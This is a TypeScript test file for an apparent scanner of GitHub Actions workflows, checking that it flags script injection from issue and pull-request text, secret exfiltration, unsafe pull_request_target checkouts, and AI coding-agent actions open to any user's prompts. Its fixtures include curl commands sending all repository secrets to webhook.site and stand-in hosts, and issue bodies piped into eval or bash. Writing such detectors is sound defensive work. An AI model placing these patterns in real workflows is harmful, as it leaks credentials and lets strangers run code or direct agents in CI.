import assert from 'node:assert/strict';
import { it } from 'node:test';
import { BytesSource } from '../src/bytes/byte-source.ts';
import { scanSource } from '../src/index.ts';

const PLACE = '.github/workflows/a.yml';
const scanned = (text: string, name = PLACE) => scanSource(name, new BytesSource(Buffer.from(text)));

/** An expression as a runner puts its value in. */
const put = (expression: string): string => ['$', `{{ ${expression} }}`].join('');
/** A workflow of one job. */
const workflow = (on: string, steps: readonly string[], job = ''): string =>
  `on: ${on}\njobs:\n  a:\n    runs-on: ubuntu-latest\n${job}    steps:\n${steps
    .map((step) => `      - ${step.replaceAll('\n', '\n        ')}\n`)
    .join('')}`;
const run = (command: string): string => `run: |\n  ${command.replaceAll('\n', '\n  ')}`;

async function expect(verdict: string, technique: string | null, texts: readonly string[], name = PLACE) {
  for (const text of texts) {
    const report = await scanned(text, name);
    assert.equal(report.verdict, verdict, `${text}\n${JSON.stringify(report.detections)}`);
    if (technique !== null)
      assert.ok(
        report.detections.some((one) => one.technique === technique),
        `${text}\n${JSON.stringify(report.detections)}`,
      );
  }
}

it('a text that strangers write is not part of a command', async () => {
  await expect('suspicious', 'workflow-injection', [
    workflow(
      'discussion',
      [`run: echo ${put('github.event.discussion.body')}`],
      '    env:\n      RUNNER_TRACKING_ID: 0\n',
    ),
    workflow('issues', [run(`echo "${put('github.event.issue.title')}"`)]),
    workflow('issues', [run(`echo "${put("github.event['issue']['title']")}"`)]),
    workflow('issues', [run(`echo "${put("GITHUB.event.issue.BODY || 'none'")}"`)]),
    workflow('issues', [run(`echo "${put("format('{0}', github.event.issue.title)")}"`)]),
    workflow('issues', [run(`echo '${put('toJSON(github.event)')}'`)]),
    workflow('[issue_comment, push]', [run(`echo '${put('github.event.comment.body')}' > a`)]),
    workflow('{pull_request: {types: [opened]}}', [run(`git checkout ${put('github.head_ref')}`)]),
    workflow('pull_request_target', [run(`git checkout ${put('github.event.pull_request.head.ref')}`)]),
    workflow('workflow_run', [run(`echo ${put('github.event.workflow_run.head_branch')}`)]),
    workflow('pull_request', [run(`echo ${put('github.event.commits[0].author.email')}`)]),
    workflow('gollum', [run(`echo ${put('github.event.pages.*.page_name')}`)]),
    workflow('issues', [
      `uses: actions/github-script@v7\nwith:\n  script: |\n    console.log("${put('github.event.issue.title')}")`,
    ]),
    workflow('issues', [`env:\n  T: ${put('github.event.issue.title')}\nrun: echo ${put('env.T')}`]),
    workflow('issues', [`env:\n  T: ${put('github.event.issue.body')}\nrun: eval "$T"`]),
    workflow('issues', [`env:\n  T: ${put('github.event.issue.body')}\nrun: echo "$T" | bash`]),
    workflow('issues', [`run: bash -c "$T"`], `    env:\n      T: ${put('github.event.issue.body')}\n`),
  ]);
  await expect(
    'suspicious',
    'workflow-injection',
    [
      `runs:\n  using: composite\n  steps:\n    - shell: bash\n      run: echo "${put('github.event.pull_request.title')}"\n`,
    ],
    'action.yml',
  );
  await expect('review', 'workflow-open', [
    workflow('push', [run(`echo "${put('github.event.head_commit.message')}"`)]),
    workflow(
      'issue_comment',
      [run(`echo "${put('github.event.comment.body')}"`)],
      "    if: github.event.comment.author_association == 'MEMBER'\n",
    ),
  ]);
});

it('workflows as people write them are clean', async () => {
  await expect('clean', null, [
    workflow('pull_request', [run(`gh pr comment ${put('github.event.pull_request.number')} --body hi`)]),
    workflow('pull_request', [
      `env:\n  TITLE: ${put('github.event.pull_request.title')}\nrun: echo "$TITLE" | grep -q fix`,
    ]),
    workflow('issues', [
      run(
        `echo ${put('github.event.issue.user.login')} ${put('github.sha')} ${put('github.event.issue.html_url')}`,
      ),
    ]),
    workflow('issues', [run(`echo ${put("contains(github.event.issue.title, 'bug')")}`)]),
    workflow('issues', [run(`echo ${put("github.event.issue.title == 'x' && 'yes' || 'no'")}`)]),
    workflow('pull_request', [run(`git diff origin/${put('github.event.pull_request.base.ref')}`)]),
    workflow('pull_request', [
      run(
        `echo ${put('github.event.pull_request.head.sha')} ${put('github.event.pull_request.head.repo.full_name')}`,
      ),
    ]),
    workflow('release', [run(`echo ${put('github.event.release.tag_name')}`)]),
    workflow('workflow_dispatch', [
      run(`echo ${put('inputs.version')} ${put('github.event.inputs.version')}`),
    ]),
    workflow('{pull_request_target: {types: [labeled]}}', [
      'uses: actions/labeler@v5',
      run(`echo ${put('github.event.label.name')}`),
    ]),
    workflow('pull_request_target', ['uses: actions/checkout@v4', run('npm ci')]),
    workflow('pull_request_target', [
      `uses: actions/checkout@v4\nwith:\n  ref: ${put('github.event.pull_request.head.sha')}`,
    ]),
    workflow('pull_request_target', [
      `uses: actions/checkout@v4\nwith:\n  ref: ${put('github.event.pull_request.head.sha')}`,
      run('git diff --name-only origin/main > a.txt\ncat a.txt\ngh pr comment 1 --body-file a.txt'),
    ]),
    workflow('pull_request', [
      `uses: actions/checkout@v4\nwith:\n  ref: ${put('github.event.pull_request.head.sha')}`,
      run('npm ci\nnpm test'),
    ]),
    workflow(
      'pull_request_target',
      [
        `uses: actions/checkout@v4\nwith:\n  ref: ${put('github.event.pull_request.head.sha')}`,
        run('npm ci'),
      ],
      '    if: github.event.pull_request.head.repo.full_name == github.repository\n',
    ),
    workflow('push', [
      `env:\n  TOKEN: ${put('secrets.TOKEN')}\nrun: |\n  curl -H "Authorization: Bearer $TOKEN" -d '{}' https://api.example.com/deploy`,
      run(`curl -d '{"content":"done"}' ${put('secrets.DISCORD_WEBHOOK')}`),
      run(`curl -d "token=${put('secrets.TOKEN')}" https://api.example.com/x`),
      'uses: actions/upload-artifact@v4\nwith:\n  path: dist',
    ]),
    workflow('push', [`env:\n  ALL: ${put('toJSON(secrets)')}\nrun: echo "$ALL" | jq -r .A > .env`]),
    workflow('issues', [
      `uses: anthropics/claude-code-action@v1\nwith:\n  prompt: "look at ${put('github.event.issue.number')}"`,
    ]),
  ]);
  await expect(
    'clean',
    null,
    [
      `runs:\n  using: composite\n  steps:\n    - shell: bash\n      run: npm version ${put('inputs.version')}\n`,
      'runs:\n  using: node20\n  main: dist/index.js\n',
    ],
    'action.yml',
  );
});

it('all secrets do not leave a workflow', async () => {
  await expect('suspicious', 'secrets-sent', [
    workflow('push', [run(`curl -d "${put('toJSON(secrets)')}" https://webhook.site/x`)]),
    workflow('push', [
      `env:\n  ALL: ${put('toJson( secrets )')}\nrun: curl -d "$ALL" https://a.example.com/x`,
    ]),
    workflow('push', [`env:\n  ALL: ${put('toJSON(secrets)')}\nrun: echo "$ALL" | base64 -w 0 | base64`]),
    workflow('push', [run(`curl -d "${put("join(secrets.*, ',')")}" https://a.example.com/x`)]),
    workflow('push', [
      `env:\n  ALL: ${put('toJSON(secrets)')}\nrun: |\n  cat <<X > out.txt\n  $ALL\n  X`,
      'uses: actions/upload-artifact@v4\nwith:\n  path: out.txt',
    ]),
    workflow('push', [
      `uses: a/http-request@v1\nwith:\n  url: https://a.example.com\n  data: ${put('toJSON(secrets)')}`,
    ]),
    workflow('push', [run(`curl -d "${put('secrets.NPM_TOKEN')}" https://webhook.site/x`)]),
    workflow('push', [run(`curl -H "X: ${put('secrets.NPM_TOKEN')}" http://203.0.113.4/x`)]),
  ]);
  await expect('review', 'workflow-open', [
    workflow('push', [`uses: a/secrets-to-env@v1\nwith:\n  secrets: ${put('toJSON(secrets)')}`]),
  ]);
});

it('what strangers propose is not run with rights', async () => {
  const head = `uses: actions/checkout@v4\nwith:\n  ref: ${put('github.event.pull_request.head.sha')}`;
  await expect('suspicious', 'workflow-checkout', [
    workflow('pull_request_target', [head, 'run: npm ci']),
    workflow('{pull_request_target: {types: [opened]}}', [
      head,
      'uses: actions/setup-node@v4',
      run('npm ci\nnpm test'),
    ]),
    workflow('pull_request_target', [
      `uses: actions/checkout@v4\nwith:\n  repository: ${put('github.event.pull_request.head.repo.full_name')}\n  ref: ${put('github.head_ref')}`,
      'run: make',
    ]),
    workflow('pull_request_target', [
      'uses: actions/checkout@v4',
      run(`gh pr checkout ${put('github.event.pull_request.number')}`),
      'run: pip install .',
    ]),
    workflow('pull_request_target', [run(`gh pr checkout ${put('github.event.number')}\nmake build`)]),
    workflow('workflow_run', [
      `uses: actions/checkout@v4\nwith:\n  ref: ${put('github.event.workflow_run.head_sha')}`,
      'run: npm ci',
    ]),
    workflow('issue_comment', [
      `uses: actions/checkout@v4\nwith:\n  ref: refs/pull/${put('github.event.issue.number')}/head`,
      'run: make',
    ]),
    workflow('pull_request_target', [head, 'uses: ./.github/actions/build']),
    workflow('pull_request_target', [head, 'run: npm ci'], "    if: github.actor != 'a[bot]'\n"),
    workflow(
      'pull_request_target',
      [head, 'run: npm ci'],
      '    if: github.event.pull_request.head.repo.full_name != github.repository\n',
    ),
  ]);
  await expect('review', 'workflow-open', [
    workflow(
      '{pull_request_target: {types: [labeled]}}',
      [head, 'run: npm ci'],
      "    if: github.event.label.name == 'safe'\n",
    ),
    workflow('{workflow_run: {workflows: [ci], branches: [main]}}', [
      `uses: actions/checkout@v4\nwith:\n  ref: ${put('github.event.workflow_run.head_sha')}`,
      'run: ./deploy.sh',
    ]),
  ]);
});

it('an agent that anyone may give orders is for someone to look at', async () => {
  await expect('review', 'workflow-agent', [
    workflow('issues', [
      `uses: anthropics/claude-code-action@v1\nwith:\n  allowed_non_write_users: "*"\n  prompt: "${put('github.event.issue.body')}"`,
    ]),
    workflow('issues', [`uses: openai/codex-action@v1\nwith:\n  allow-users: "*"\n  prompt: triage`]),
  ]);
});
